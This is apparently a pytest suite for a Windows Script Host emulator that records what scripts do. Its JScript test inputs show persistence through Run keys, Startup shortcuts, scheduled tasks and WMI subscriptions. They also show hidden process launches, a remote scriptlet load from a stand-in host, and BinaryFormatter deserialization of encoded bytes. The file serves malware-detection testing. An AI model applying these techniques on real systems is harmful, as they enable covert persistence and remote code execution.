"""Programs, registry, network and management under Windows Script Host."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from .wsh_runs import Host, hosting

SHELL = "var sh = new ActiveXObject('WScript.Shell');"
WMI = "var wmi = GetObject('winmgmts:{impersonationLevel=impersonate}!\\\\\\\\.\\\\root\\\\cimv2');"
RUN_KEY = "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\"


@pytest.fixture(scope="module")
def wsh(outlives_tests: None) -> Iterator[Host]:
    with hosting() as host:
        yield host


# -- programs and the shell ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "command"),
    [
        (SHELL + "sh.Run('calc.exe', 0, true)", "calc.exe"),
        (SHELL + "sh.Exec('calc.exe')", "calc.exe"),
        (
            "new ActiveXObject('Shell.Application').ShellExecute('a.exe', '/x', '', 'runas', 0)",
            "a.exe /x",
        ),
        ("GetObject('winmgmts:Win32_Process').Create('calc.exe')", "calc.exe"),
        (WMI + "wmi.Get('Win32_Process').Create('calc.exe', null, null)", "calc.exe"),
        ("new ActiveXObject('Shell.Application').Open('C:\\\\a.exe')", "C:\\a.exe"),
    ],
)
def test_a_program_that_would_run_is_an_effect(wsh: Host, source: str, command: str) -> None:
    (effect,) = wsh.effects(source, "process")
    assert effect.target == command


def test_a_hidden_window_is_told(wsh: Host) -> None:
    (effect,) = wsh.effects(SHELL + "sh.Run('cmd /c dir', 0)", "process")
    assert dict(effect.details)["hidden"] == "true"


def test_what_a_program_prints_can_be_read(wsh: Host) -> None:
    source = SHELL + (
        "var e = sh.Exec('cmd /c echo hello'); [e.StdOut.ReadLine(), "
        "e.StdOut.AtEndOfStream, e.Status]"
    )
    assert wsh.run(source) == ["hello", True, 1]


def test_programs_that_do_not_start_are_an_error(wsh: Host) -> None:
    result = wsh.result(SHELL + "sh.Run('nothing.exe')", answers={"shell": "error"})
    assert result.error is not None
    assert result.error.message.startswith("The system cannot find the file")


def test_variables_are_expanded_and_set(wsh: Host) -> None:
    source = """
      sh.Environment('Process')('MINE') = 'x';
      [sh.ExpandEnvironmentStrings('%MINE%-%NONE%'),
      sh.Environment('PROCESS').Item('mine'), sh.Environment('System')('OS')]
    """
    assert wsh.run(SHELL + source) == ["x-%NONE%", "x", "Windows_NT"]


def test_stored_variables_are_not_expanded(wsh: Host) -> None:
    source = "[sh.Environment('SYSTEM')('ComSpec'), sh.Environment.Item('windir')]"
    assert wsh.run(SHELL + source) == ["%SystemRoot%\\system32\\cmd.exe", "%SystemRoot%"]


def test_a_stored_variable_that_is_set_is_of_the_registry(wsh: Host) -> None:
    source = "sh.Environment('User')('A') = 'b'; sh.Environment('USER')('a')"
    assert wsh.run(SHELL + source) == "b"
    (effect,) = wsh.effects(SHELL + source, "registry")
    assert effect.target == "user environment\\A"


def test_a_shortcut_in_the_startup_folder_is_persistence(wsh: Host) -> None:
    source = (
        "var l = sh.CreateShortcut(sh.SpecialFolders('Startup') + '\\\\a.lnk'); "
        "l.TargetPath = 'C:\\\\a.exe'; l.Save()"
    )
    trace = wsh.traced(SHELL + source)
    (shortcut,) = (one for one in trace.effects if one.operation == "shortcut")
    assert dict(shortcut.details)["target"] == "C:\\a.exe"
    assert [one.kind for one in trace.effects if one.kind == "persistence"] == ["persistence"]


def test_a_run_key_is_written_read_and_deleted(wsh: Host) -> None:
    source = SHELL + (
        f"sh.RegWrite('{RUN_KEY}x', 'a.exe', 'REG_SZ'); var v = sh.RegRead('{RUN_KEY}x'); "
        f"sh.RegDelete('{RUN_KEY}x'); v"
    )
    assert wsh.run(source) == "a.exe"
    (effect,) = wsh.effects(source, "persistence")
    assert dict(effect.details)["value"] == "a.exe"


def test_a_key_that_is_not_there_is_an_error(wsh: Host) -> None:
    assert wsh.caught(SHELL + "sh.RegRead('HKCU\\\\None\\\\x')")[0] == -2147024894


def test_a_popup_is_printed_and_answered(wsh: Host) -> None:
    assert wsh.run(SHELL + "[sh.Popup('x'), sh.Popup('x', 1, 't', 4)]") == [1, 6]


def test_the_network_knows_the_user(wsh: Host) -> None:
    source = "var n = new ActiveXObject('WScript.Network'); [n.UserName, n.ComputerName]"
    assert wsh.run(source, profile={"user": "amara", "computer": "PC-7"}) == ["amara", "PC-7"]


# -- requests --------------------------------------------------------------------------------------

CLIENTS = [
    "MSXML2.XMLHTTP",
    "Microsoft.XMLHTTP",
    "MSXML2.ServerXMLHTTP.6.0",
    "WinHttp.WinHttpRequest.5.1",
]


@pytest.mark.parametrize("client", CLIENTS)
def test_a_request_is_an_effect_and_is_answered(wsh: Host, client: str) -> None:
    source = f"""
      var x = new ActiveXObject('{client}'); x.open('POST', 'http://a.example/x', false);
      x.setRequestHeader('X-A', 'b'); x.send('q=1'); [x.status, x.statusText,
      x.responseText.length > 0]
    """
    assert wsh.run(source) == [200, "OK", True]
    trace = wsh.traced(source)
    (effect,) = trace.effects
    assert (effect.kind, effect.operation, effect.target) == (
        "network",
        "POST",
        "http://a.example/x",
    )
    assert dict(effect.details)["header: X-A"] == "b"
    assert trace.artifacts[0].content == b"q=1"


def test_a_request_tells_when_it_is_done(wsh: Host) -> None:
    source = """
      var x = new ActiveXObject('MSXML2.XMLHTTP'), seen = [];
      x.onreadystatechange = function () { seen.push(x.readyState) };
      x.open('GET', 'http://a.example/', true); x.send(); seen
    """
    assert wsh.run(source) == [1, 4]


def test_a_host_that_is_not_there_is_an_error(wsh: Host) -> None:
    source = (
        "try { var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', "
        "'http://a.example/', false); x.send() } catch (e) { e.number }"
    )
    assert wsh.run(source, answers={"http": "error"}) == -2146697211


def test_an_answer_that_has_not_come_is_an_error(wsh: Host) -> None:
    assert wsh.caught("new ActiveXObject('MSXML2.XMLHTTP').status")[0] == -2147483638


def test_options_of_a_request_can_be_set(wsh: Host) -> None:
    source = (
        "var x = new ActiveXObject('WinHttp.WinHttpRequest.5.1'); x.Option(4) = 13056; x.Option(4)"
    )
    assert wsh.run(source) == 13056


# -- documents and scripts -------------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "text"), [("bin.base64", "aGVsbG8="), ("bin.hex", "68656c6c6f")])
def test_a_typed_node_decodes_and_the_bytes_are_kept(wsh: Host, kind: str, text: str) -> None:
    source = f"""
      var n = new ActiveXObject('MSXML2.DOMDocument.3.0').createElement('x');
      n.dataType = '{kind}'; n.text = '{text}';
      var bytes = n.nodeTypedValue; n.nodeTypedValue = bytes; n.text
    """
    assert wsh.run(source) == text
    assert b"hello" in [one.content for one in wsh.traced(source).artifacts]


def test_a_pattern_is_an_object(wsh: Host) -> None:
    source = """
      var r = new ActiveXObject('VBScript.RegExp'); r.Pattern = 'a(.)'; r.Global = true;
      var m = r.Execute('abac');
      [m.Count, m(1).Value, m(1).FirstIndex, m(0).SubMatches(0), r.Replace('ab', 'x'), r.Test('q')]
    """
    assert wsh.run(source) == [2, "ac", 2, "b", "x", False]


def test_a_document_is_parsed_and_searched(wsh: Host) -> None:
    source = """
      var x = new ActiveXObject('Microsoft.XMLDOM');
      x.loadXML('<?xml version="1.0"?><a><b c="1">t&amp;u</b><b/></a>');
      [x.selectSingleNode('//b').text, x.documentElement.nodeName,
      x.getElementsByTagName('b').length, x.xml]
    """
    assert wsh.run(source) == ["t&u", "a", 2, '<a><b c="1">t&amp;u</b><b/></a>']


def test_what_is_not_well_formed_is_not_loaded(wsh: Host) -> None:
    assert wsh.run("new ActiveXObject('Microsoft.XMLDOM').loadXML('<a><b></a>')") is False


def test_scripts_in_a_style_sheet_run(wsh: Host) -> None:
    source = """
      var x = new ActiveXObject('Microsoft.XMLDOM'), s = new ActiveXObject('Microsoft.XMLDOM');
      s.loadXML('<x><ms:script language="JScript"><![CDATA[var ran = 1 < 2;]]></ms:script></x>');
      x.transformNode(s); ran
    """
    assert wsh.run(source) is True
    assert "var ran = 1 < 2;" in [one.text for one in wsh.traced(source).generations]


def test_a_script_control_runs_code(wsh: Host) -> None:
    source = """
      var c = new ActiveXObject('MSScriptControl.ScriptControl'); c.Language = 'JScript';
      c.AddCode('function twice(x) { return x * 2 }'); [c.Eval('1 + 2'), c.Run('twice', 4)]
    """
    assert wsh.run(source) == [3, 8]


def test_code_in_another_language_is_recorded(wsh: Host) -> None:
    source = (
        "var c = new ActiveXObject('ScriptControl'); c.Language = 'VBScript'; "
        "c.ExecuteStatement('MsgBox 1')"
    )
    (effect,) = wsh.effects(source, "dynamic_code")
    assert effect.target == "VBScript"


def test_a_page_in_memory_runs_its_scripts(wsh: Host) -> None:
    source = (
        "var h = new ActiveXObject('htmlfile'); h.write('<script>var q = 4</script>'); "
        "h.parentWindow.eval('q + 1')"
    )
    assert wsh.run(source) == 5


def test_a_scriptlet_from_the_network_is_asked_for(wsh: Host) -> None:
    source = "try { GetObject('script:http://a.example/x.sct') } catch (e) {}"
    (effect,) = wsh.effects(source, "network")
    assert effect.target == "http://a.example/x.sct"


def test_a_browser_that_is_steered_asks_for_pages(wsh: Host) -> None:
    source = (
        "var i = new ActiveXObject('InternetExplorer.Application'); i.Visible = 0; "
        "i.Navigate('http://a.example/')"
    )
    (effect,) = wsh.effects(source, "network")
    assert effect.target == "http://a.example/"


def test_office_has_any_member_and_each_is_recorded(wsh: Host) -> None:
    trace = wsh.traced(
        "var x = new ActiveXObject('Excel.Application'); x.RegisterXLL('C:\\\\a.dll'); "
        "x.Workbooks.Add().Sheets(1)"
    )
    assert trace.effects[0].target == "C:\\a.dll"
    assert "Excel.Application.Workbooks.Add" in [api.path for api in trace.apis]


def test_a_program_made_of_bytes_is_kept(wsh: Host) -> None:
    source = """
      var b = new ActiveXObject('System.Text.ASCIIEncoding').GetBytes_4('aGVsbG8=');
      var t = new ActiveXObject('System.Security.Cryptography.FromBase64Transform');
      b = t.TransformFinalBlock(b, 0, 8);
      var m = new ActiveXObject('System.IO.MemoryStream'); m.Write(b, 0, 5); m.Position = 0;
      var name = 'System.Runtime.Serialization.Formatters.Binary.BinaryFormatter';
      new ActiveXObject(name).Deserialize_2(m).DynamicInvoke(1);
    """
    trace = wsh.traced(source)
    assert [one.operation for one in trace.effects] == ["deserialize"]
    assert b"hello" in [one.content for one in trace.artifacts]


# -- management and tasks --------------------------------------------------------------------------


def test_a_query_chooses_rows(wsh: Host) -> None:
    source = """
      var names = [], q = "SELECT Name FROM Win32_Process " +
        "WHERE Name = 'explorer.exe' OR Name LIKE 'wscr%'";
      var e = new Enumerator(wmi.ExecQuery(q));
      for (; !e.atEnd(); e.moveNext()) names.push(e.item().name);
      names
    """
    assert wsh.run(WMI + source) == ["explorer.exe", "wscript.exe"]


@pytest.mark.parametrize(
    ("name", "member"),
    [
        ("Win32_OperatingSystem", "Caption"),
        ("Win32_ComputerSystem", "Model"),
        ("Win32_Processor", "Name"),
        ("Win32_BIOS", "SerialNumber"),
        ("Win32_LogicalDisk", "VolumeSerialNumber"),
        ("Win32_NetworkAdapterConfiguration", "MACAddress"),
        ("AntiVirusProduct", "displayName"),
        ("Win32_Product", "Name"),
    ],
)
def test_a_machine_is_described(wsh: Host, name: str, member: str) -> None:
    source = WMI + f"var e = new Enumerator(wmi.InstancesOf('{name}')); e.item().{member}"
    value = wsh.run(source)
    assert isinstance(value, str)
    assert value


def test_an_object_is_had_by_its_path(wsh: Host) -> None:
    path = 'winmgmts:\\\\\\\\.\\\\root\\\\cimv2:Win32_LogicalDisk.DeviceID="C:"'
    source = f"GetObject('{path}').FileSystem"
    assert wsh.run(source) == "NTFS"


def test_a_class_that_is_not_there_is_an_error(wsh: Host) -> None:
    assert wsh.caught(WMI + "wmi.ExecQuery('SELECT * FROM Win32_Nope')")[0] == 0x80041010 - 2**32


def test_a_process_is_created_by_parameters(wsh: Host) -> None:
    source = """
      var p = wmi.Get('Win32_Process'), i = p.Methods_('Create').InParameters.SpawnInstance_();
      i.CommandLine = 'calc.exe'; p.ExecMethod_('Create', i).ReturnValue
    """
    assert wsh.run(WMI + source) == 0
    assert [one.target for one in wsh.effects(WMI + source, "process")] == ["calc.exe"]


def test_a_subscription_is_persistence(wsh: Host) -> None:
    source = WMI + (
        "var c = wmi.Get('CommandLineEventConsumer').SpawnInstance_(); "
        "c.CommandLineTemplate = 'a.exe'; c.Put_()"
    )
    (effect,) = wsh.effects(source, "persistence")
    assert dict(effect.details)["CommandLineTemplate"] == "a.exe"


def test_a_scheduled_task_is_persistence(wsh: Host) -> None:
    source = """
      var s = new ActiveXObject('Schedule.Service'); s.Connect(); var t = s.NewTask(0);
      t.RegistrationInfo.Description = 'x'; t.Triggers.Create(9);
      var a = t.Actions.Create(0); a.Path = 'C:\\\\a.exe'; a.Arguments = '/q';
      s.GetFolder('\\\\').RegisterTaskDefinition('Upd', t, 6, null, null, 3).Name
    """
    assert wsh.run(source) == "Upd"
    (effect,) = wsh.effects(source, "persistence")
    assert (effect.target, dict(effect.details)["action"]) == ("Upd", "C:\\a.exe /q")
